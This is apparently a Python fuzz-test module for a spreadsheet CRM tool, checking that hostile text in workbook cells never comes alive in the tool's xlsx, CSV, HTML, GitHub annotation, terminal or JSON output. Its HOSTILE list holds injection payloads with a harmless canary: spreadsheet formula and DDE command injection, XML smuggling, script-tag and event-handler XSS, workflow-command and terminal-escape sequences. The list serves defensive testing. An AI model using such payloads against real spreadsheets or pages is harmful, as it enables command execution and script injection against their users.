"""Whether anything that people type comes alive in what we write: `python -m benchmarks.injection 500`.

So many small firms whose every text is hostile are run through the host of files; the workbook and all other answers
are then read by plain readers that share nothing with the program. The exit code is 1 when a text came alive.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import tempfile
import unicodedata
import zipfile
from collections.abc import Iterator, Sequence
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import xlsxwriter  # type: ignore[import-untyped]
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from sheets_crm import sync
from sheets_crm.cli import contract, formats, words
from sheets_crm.hosts.xlsx import XlsxHost
from sheets_crm.reports import REPORTS
from sheets_crm.text import LANGS

FIRST, LATER = date(2024, 3, 4), date(2024, 3, 11)
CANARY = "Kanarie"
"""In every hostile text: where it sings outside quotation marks, a text is alive."""
HOSTILE = (
    "=Kanarie()", "+Kanarie()", "-1+Kanarie()", "@Kanarie", "＝Kanarie()", "\t=Kanarie()", "\r\n=Kanarie()", " =Kanarie()",
    "\u200b=Kanarie()", "=cmd|' /C Kanarie'!A0", '=HYPERLINK("http://Kanarie.example/"&A1)', '"&Kanarie()&"', "'&Kanarie()&'",
    '"),Kanarie("', "')!A1,Kanarie('", 'x"', '""', "'", "Kanarie!$A$1", "=Kanarie!$A$1", "[Kanarie.xlsx]S!A1", "SORT(Kanarie(",
    "<f>Kanarie()</f>", "</t></is></c><c><f>Kanarie()</f></c>", "<r><t>Kanarie</t></r>", "]]><f>Kanarie()</f>", "&lt;f>Kanarie",
    "_x003D_Kanarie()", "_x0000_=Kanarie()", "http://Kanarie.example", "javascript:Kanarie()", "external:Kanarie.xlsx",
    "internal:'Kanarie'!A1", r"\\Kanarie\share", "mailto:Kanarie@example.org", "<script>Kanarie()</script>",
    '<img src=x onerror="Kanarie()">', '" onclick="Kanarie()', "::error::Kanarie", "%0A::error::Kanarie", "a\n::error::Kanarie",
    "\x1b[31mKanarie", "\x1b]8;;http://Kanarie\x07", "\x9b31mKanarie", "\u202eKanarie", "&LKanarie&A", "{=Kanarie()}", "a;=Kanarie()",
    'a;"=Kanarie()', 'a;""-Kanarie()', "a\n=Kanarie()", "#REF!Kanarie", "Kanarie?*~", "~*", "R1C1Kanarie", "1;2;Kanarie", "✗ Kanarie: [TK01]",
    "{Kanarie}", "%sKanarie", "Kanarie" * 50,
)  # fmt: skip
_FIELDS = 16
hostile = st.sampled_from(HOSTILE) | st.tuples(
    st.sampled_from(HOSTILE), st.text(st.characters(exclude_categories=["Cs"]), max_size=6)
).map("".join)
firms = st.lists(hostile, min_size=_FIELDS, max_size=_FIELDS, unique_by=lambda text: text.strip().casefold())


def problems(texts: Sequence[str], folder: Path) -> list[str]:
    """What came alive of a firm made of these texts; empty if nothing did."""
    path = folder / "firm.xlsx"
    _write(path, texts)
    sync.run(XlsxHost(path), today=lambda _: LATER, as_of=FIRST, names=())
    done = sync.run(XlsxHost(path), today=lambda _: LATER, as_of=LATER)
    lang = LANGS[len(texts[0]) % len(LANGS)]
    return [
        *(f"workbook: {p}" for p in in_workbook(path.read_bytes())),
        *in_answers(contract.View(done), lang),
    ]


def in_answers(view: contract.View, lang: str) -> Iterator[str]:
    """What is alive in the answers of the command line."""
    tables = [table for report in REPORTS.values() for table in report.tables(view.told)]
    for text in (formats.findings_csv(view, lang), formats.tables_csv(tables, lang)):
        yield from (f"csv: {p}" for p in in_csv(text))
    report = formats.report_html(view, REPORTS["audit"].sheet, tables, lang)
    for text in (formats.findings_html(view, lang), report):
        yield from (f"html: {p}" for p in in_html(text))
    yield from (f"github: {p}" for p in in_annotations(formats.github(view, lang, "firm.xlsx")))
    for text in (words.audit_text(view, lang), words.tables_text(tables, lang)):
        yield from (f"terminal: {p}" for p in on_screen(text))
    answer = contract.audit_json(view, lang)
    text = contract.dumped(answer)
    yield from (f"json: {p}" for p in on_screen(text))
    if json.loads(text) != answer:
        yield "json: not exact"


# ------------------------------------------------------------------ the firm


def _write(path: Path, texts: Sequence[str]) -> None:
    """A workbook whose texts are all hostile: names, owners, stages, reasons, headers, a sheet."""
    (
        deal,
        other,
        owner,
        boss,
        stage,
        won,
        lost,
        reason,
        source,
        title,
        product,
        note,
        header,
        clause,
        pipe,
        sheet,
    ) = texts
    plain = {"strings_to_formulas": False, "strings_to_urls": False, "default_date_format": "yyyy-mm-dd"}
    book = xlsxwriter.Workbook(str(path), plain)
    old, late = date(2024, 1, 10), date(2024, 3, 1)
    rows: list[list[object]] = [
        ["D0001", deal, stage, owner, note, date(2024, 4, 1), 1000.5, old, None, None, source, product, pipe],
        [other, other, stage, owner, None, None, boss, old, None, None, source, product, pipe],
        [title, title, lost, boss, None, None, 70, old, late, reason, source, product, pipe],
        ["D0004", deal, won, owner, None, None, 900, old, late, None, source, product, pipe],
        [None, note, header, boss, None, late, 10, old, None, None, source, None, None],
    ]  # fmt: skip
    head = ["Deal ID", "Deal", "Stage", "Owner", "Next step", "Next date", "Amount", "Created", "Closed", "Lost reason", "Source", "Product", "Pipeline", header]  # fmt: skip
    _fill(book, _sheet_name(sheet), head, rows)
    _fill(book, "Stages", ["Pipeline", "Stage", "Order", "Kind", "Goal"], [
        [pipe, stage, 1, "active", clause], [pipe, won, 2, "won", clause], [pipe, lost, 3, "lost", clause]])  # fmt: skip
    _fill(
        book,
        "Team",
        ["User", "Name", "Role", "Base bonus"],
        [[owner, deal, "rep", 1000], [boss, other, "hos", 1000]],
    )
    _fill(book, "Loss reasons", ["Reason", "When to apply"], [[reason, clause]])
    tasks: list[list[object]] = [
        [late, "D0001", "call", title, owner, "T0001"],
        [late, other, "call", note, boss, title],
    ]
    _fill(book, "Tasks", ["Due", "Deal ID", "Type", "Title", "Owner", "Task ID"], tasks)
    binding = [
        "FIRM",
        "binding_from",
        date(2024, 3, 5),
        note,
    ]  # what the first run found counts for the second
    lines: list[list[object]] = [["TK01", None, None, clause], ["FIRM", "won_means", header, note], binding]
    _fill(book, "Sales Book", ["Code", "Setting", "Value", "Text"], lines)
    _fill(book, "Appeals", ["Finding ID", "User", "Words"], [[title, owner, note]])
    book.close()


def _fill(book: Any, name: str, head: Sequence[Any], rows: Sequence[Sequence[Any]]) -> None:
    sheet = book.add_worksheet(name)
    for number, row in enumerate([head, *rows]):
        for column, value in enumerate(row):
            if isinstance(value, str):
                # XlsxWriter copies such a text into the file as markup.
                sheet.write_string(number, column, f"{value} " if value.startswith("<r>") else value)
            elif value is not None:
                sheet.write(number, column, value)


def _sheet_name(text: str) -> str:
    """As much of a text as a sheet's name may hold."""
    kept = "".join(
        ch for ch in re.sub(r"[\[\]:*?/\\]", "", text) if unicodedata.category(ch) not in ("Cc", "Cn", "Co")
    )
    return f"{kept[:24].strip(chr(39)).strip()} deals"


# ------------------------------------------------------------------- readers

_FORMULAS = {
    "f",
    "formula",
    "formula1",
    "formula2",
    "definedName",
    "calculatedColumnFormula",
    "totalsRowFormula",
}
_OURS = r"IFERROR|HYPERLINK|MATCH|COUNTIFS?|SUMIFS?|SUM|SUMPRODUCT|EXACT|ROUND|IF|FIND|MAX|MIN|ROW|OFFSET|INDEX|AND|OR|ABS"
_RESIDUE = re.compile(
    rf"(?:(?:{_OURS})\(|(?:§|Audit|Forecast|Conversion|Bonus|sheets_crm_log)!|\$?[A-Z]{{1,3}}\$?\d+|\$?[A-Z]{{1,3}}(?=:|,|$)|\d+(?:\.\d+)?|[-+*/&<>=(),:\s]|¶)*"
)
"""A formula of ours with its quoted words (¶) and quoted sheets (§) taken out: nothing of anyone's is left in it."""
_NO_PARTS = re.compile(
    r"externalLink|connections|queryTable|oleObject|embeddings|vbaProject|ctrlProp|activeX|webExtension",
    re.IGNORECASE,
)


def in_workbook(data: bytes) -> Iterator[str]:
    """What is alive in a workbook that is none of our constants."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    for name, part in parts.items():
        if _NO_PARTS.search(name):
            yield f"a part {name}"
        if not name.endswith((".xml", ".rels", ".vml")):
            continue
        if b"<!DOCTYPE" in part or b"<!ENTITY" in part:
            yield f"{name}: a DOCTYPE"
        for element in ET.fromstring(part).iter():
            kind = element.tag.rpartition("}")[2]
            if kind in _FORMULAS:
                yield from (f"{name}: {p}" for p in _in_formula(element.text or ""))
            elif kind == "Relationship" and element.get("TargetMode") == "External":
                yield f"{name}: a link to {element.get('Target')}"
            elif kind == "hyperlink":
                place = element.get("location") or ""
                if any(key.endswith("}id") for key in element.attrib) or not re.fullmatch(
                    r"'(?:[^']|'')+'!A1", place
                ):
                    yield f"{name}: a link to {place!r}"
            elif kind in ("ddeLink", "oleLink", "webPublishItem"):
                yield f"{name}: <{kind}>"
            elif kind in ("oddFooter", "oddHeader") and re.search(
                r"&(?![LRPN&])", (element.text or "").replace("&&", "")
            ):
                yield f"{name}: a footer {element.text!r}"


def _in_formula(text: str) -> Iterator[str]:
    """Takes quoted words and quoted sheets out of a formula, sign by sign, and looks at what is left."""
    left, at = "", 0
    while at < len(text):
        if text[at] in "\"'":
            mark, end = text[at], at + 1
            while True:
                end = text.find(mark, end)
                if end < 0:
                    yield f"unclosed {mark} in {text!r}"
                    return
                if text[end + 1 : end + 2] != mark:
                    break
                end += 2
            quoted = text[at + 1 : end]
            if left.endswith("HYPERLINK(") and mark == '"' and not quoted.startswith("#'"):
                yield f"a link to {quoted!r}"
            left += "¶" if mark == '"' else "§"
            at = end + 1
        else:
            left, at = left + text[at], at + 1
    if not _RESIDUE.fullmatch(left):
        yield f"a formula {text!r}: {left!r}"


_TRIGGERS = tuple("=+-@＝＋－＠")
_NUMBER = re.compile(r"-?\d+(?:\.\d+)?(?:,.*|$)", re.DOTALL)


def in_csv(text: str) -> Iterator[str]:
    """Cells of a CSV file that a spreadsheet would calculate, wherever it parts them: at commas, semicolons, tabs."""
    for mark in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=mark):
            for cell in row:
                seen = cell.lstrip(' "\u200b\ufeff\xa0\x00\t\r\n\v\f')
                if seen.startswith(_TRIGGERS) and not _NUMBER.fullmatch(cell):
                    yield f"a cell {cell!r} at {mark!r}"


HTML_TAGS = frozenset("html head meta title style body h1 h2 p table tr th td ul li".split())  # noqa: SIM905
HTML_ATTRIBUTES = frozenset({"lang", "charset", "name", "content", "class"})
"""All that a page of ours is made of."""


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HTML_TAGS:
            self.found.append(f"<{tag}>")
        self.found += [f"{k}={v!r}" for k, v in attrs if k not in HTML_ATTRIBUTES]

    def handle_decl(self, decl: str) -> None:
        if decl != "doctype html":
            self.found.append(decl)


def in_html(text: str) -> Iterator[str]:
    """Tags and attributes of a page that are not ours, and signs that are not seen."""
    tags = _Tags()
    tags.feed(text)
    yield from tags.found
    yield from on_screen(text)


def in_annotations(text: str) -> Iterator[str]:
    """Lines that are no workflow command of ours."""
    for line in text.removesuffix("\n").split("\n"):
        if not re.fullmatch(r"::(?:error|warning|notice) file=firm\.xlsx,title=[^:,\r\n]*::[^\r\n]*", line):
            yield repr(line)
    yield from on_screen(text)


def on_screen(text: str) -> Iterator[str]:
    """Signs that steer a terminal, beyond the styles that the program itself uses."""
    rest = re.sub(r"\x1b\[(?:[012]|3[1-4])m", "", text)
    hidden = {ch for ch in rest if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
    yield from (f"U+{ord(ch):04X}" for ch in hidden)


# ----------------------------------------------------------------- the command


def all_inert(number: int) -> None:
    """Raises AssertionError, with what came alive, if a text does so in one of `number` firms."""

    # To find the smallest firm would take many minutes, and what came alive says where to look.
    @settings(max_examples=number, deadline=None, database=None, suppress_health_check=list(HealthCheck),
              phases=[Phase.generate])  # fmt: skip
    @given(firms)
    def inert(texts: list[str]) -> None:
        with tempfile.TemporaryDirectory() as folder:
            found = problems(texts, Path(folder))
        assert found == [], found[:5]

    inert()


def main() -> int:
    """Prints what was found; 1 if a text came alive."""
    number = int(sys.argv[1]) if len(sys.argv) > 1 else 500
    try:
        all_inert(number)
    except AssertionError as problem:
        print(problem)
        return 1
    print(
        f"{number} workbooks of hostile texts: nothing of them is alive in xlsx, CSV, HTML, GitHub, terminal or JSON"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
